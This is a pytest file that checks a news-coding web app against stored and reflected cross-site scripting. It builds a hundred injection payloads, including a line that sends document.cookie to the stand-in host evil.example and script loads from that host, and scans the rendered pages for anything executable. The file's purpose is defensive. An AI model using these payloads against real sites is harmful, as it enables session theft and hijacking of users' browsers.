"""A hundred ways to smuggle a script in, in every field that reaches a page: each comes out as the text that it is."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from itertools import product
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from lxml import html

from asking import Client
from builders import make_article, make_coded, make_mention
from cases import fill
from dateline.model import CodedArticle, PlacePrecision, PlaceValue
from dateline.settings import Settings
from dateline.store.case import Case, open_case
from dateline.store.fusing import fuse_case
from dateline.web.app import create_app
from dateline.web.desk import Desk

_CALLS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "top.location='//evil.example'",
    "import('//evil.example')",
)
_SHAPES = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><!--{}-->",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "` onclick=`{}",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">here</a>',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<math><mi xlink:href='javascript:{}'>",
    "<form action='javascript:{}'><button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "{{{{ ''.__class__.__mro__ }}}} {{% print {} %}}",
    "\u202e<script>{}</script>\u0000".replace("\u0000", ""),
)
PAYLOADS = tuple(shape.format(call) for shape, call in product(_SHAPES, _CALLS))
_IN_ONE = 4  # payloads in one field of one article
_FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "frame", "applet", "math", "animate", "style"})
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href"})
_OF_ONE_SHAPE = 30  # addresses that differ only in their ids and numbers
_STARTS = ("/incidents", "/articles", "/review")


def smuggling(number: int) -> CodedArticle:
    """An article that has payloads in each of its fields; each payload stands in each field of some article."""
    words = " ".join(PAYLOADS[number * _IN_ONE : (number + 1) * _IN_ONE])
    article = make_article(
        f"Rebels shelled the market. {words}", title=f"Report {number} {words}", publisher=words, published="2025-03-02"
    )
    place = PlaceValue(words, lat=35.0 + number / 10, lon=37.0, country="SYR", precision=PlacePrecision.TOWN)
    mention = make_mention(
        article,
        trigger="shelled",
        actors=[words],
        recipients=[words],
        places=[place],
        days=["2025-03-02"],
        killed=[3],
        said_by=[words],
    )
    return make_coded(article, [mention])


@pytest.fixture
def smuggled(tmp_path: Path) -> Iterator[Client]:
    case: Case = open_case(str(tmp_path / "case.db"), create=True)
    fill(case, [smuggling(number) for number in range(len(PAYLOADS) // _IN_ONE)])
    fuse_case(case)
    yield Client(create_app(Desk(case, Settings(data_folder=tmp_path))))
    case.close()


def test_there_are_a_hundred() -> None:
    assert len(set(PAYLOADS)) == 100


def test_no_stored_text_becomes_a_script(smuggled: Client) -> None:
    """Every page that can be reached by links, from the lists on."""
    open_ones, seen = list(_STARTS), set(_STARTS)
    shapes: Counter[str] = Counter()
    while open_ones:
        path = open_ones.pop()
        answer = smuggled.get(path)
        assert answer.status_code < 500, path
        if "text/html" not in answer.headers.get("content-type", ""):
            continue
        page = html.document_fromstring(answer.text)
        is_file = "attachment" in answer.headers.get("content-disposition", "")
        assert list(scripts(page) if is_file else dangers(page)) == [], path
        for link in links(page):
            shape = re.sub(r"[a-z]+-[0-9a-f]{16}|\d+", "x", link)
            if link not in seen and shapes[shape] < _OF_ONE_SHAPE:
                shapes[shape] += 1
                seen.add(link)
                open_ones.append(link)
    assert sum(path.startswith("/articles/") for path in seen) >= len(PAYLOADS) // _IN_ONE
    assert any(path.startswith("/incidents/") for path in seen)
    assert any(path.startswith("/claims/") for path in seen)


def test_stored_text_is_shown_as_it_is(smuggled: Client) -> None:
    page = html.document_fromstring(smuggled.get("/articles").text)
    shown = " ".join(page.text_content().split())
    for payload in PAYLOADS:
        assert " ".join(payload.split()) in shown


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example"]
)
def test_an_address_that_is_no_web_page_is_no_link(tmp_path: Path, address: str) -> None:
    coded = smuggling(0)
    case = open_case(str(tmp_path / "case.db"), create=True)
    fill(case, [replace(coded, article=replace(coded.article, url=address))])
    page = Client(create_app(Desk(case, Settings(data_folder=tmp_path)))).get(f"/articles/{coded.article.article_id}")
    case.close()
    assert page.status_code == 200
    assert list(dangers(html.document_fromstring(page.text))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_question_comes_back_as_a_script(smuggled_once: Client, payload: str) -> None:
    asked = quote(payload, safe="")
    for path in (
        f"/search?q={asked}",
        f"/incidents?type={asked}&place={asked}&actor={asked}",
        f"/{asked}",
        f"/claims/{asked}",
    ):
        answer = smuggled_once.get(path)
        assert answer.status_code < 500, path
        if "text/html" in answer.headers.get("content-type", ""):
            assert list(dangers(html.document_fromstring(answer.text))) == [], path


@pytest.fixture(scope="module")
def smuggled_once(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Client]:
    folder = tmp_path_factory.mktemp("reflected")
    case = open_case(str(folder / "case.db"), create=True)
    yield Client(create_app(Desk(case, Settings(data_folder=folder))))
    case.close()


def links(page: html.HtmlElement) -> Iterator[str]:
    for element in page.iter("a"):
        target = urlsplit(element.get("href", ""))
        if not target.scheme and not target.netloc and target.path.startswith("/"):
            yield target._replace(fragment="").geturl()


def scripts(page: html.HtmlElement) -> Iterator[str]:
    """What a browser would run in a file that was saved: such a file brings its own style and its own policy."""
    for element in page.iter(html.etree.Element):
        if element.tag in ("script", "iframe", "object", "embed"):
            yield html.etree.tostring(element, encoding="unicode")
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or (name.lower() in _ADDRESSES and not is_harmless(value)):
                yield f"{name}={value}"


def dangers(page: html.HtmlElement) -> Iterator[str]:
    """What a browser would run or fetch from elsewhere."""
    for element in page.iter(html.etree.Element):
        if element.tag == "script" and not element.get("src", "").startswith("/static/"):
            yield html.etree.tostring(element, encoding="unicode")
        if element.tag in _FORBIDDEN or (element.tag == "meta" and element.get("http-equiv")):
            yield str(element.tag)
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc"):
                yield f"{name}={value}"
            if name.lower() in _ADDRESSES and not is_harmless(value):
                yield f"{name}={value}"


def is_harmless(address: str) -> bool:
    parts = urlsplit(address.strip())
    return parts.scheme in ("http", "https") or (not parts.scheme and not parts.netloc)
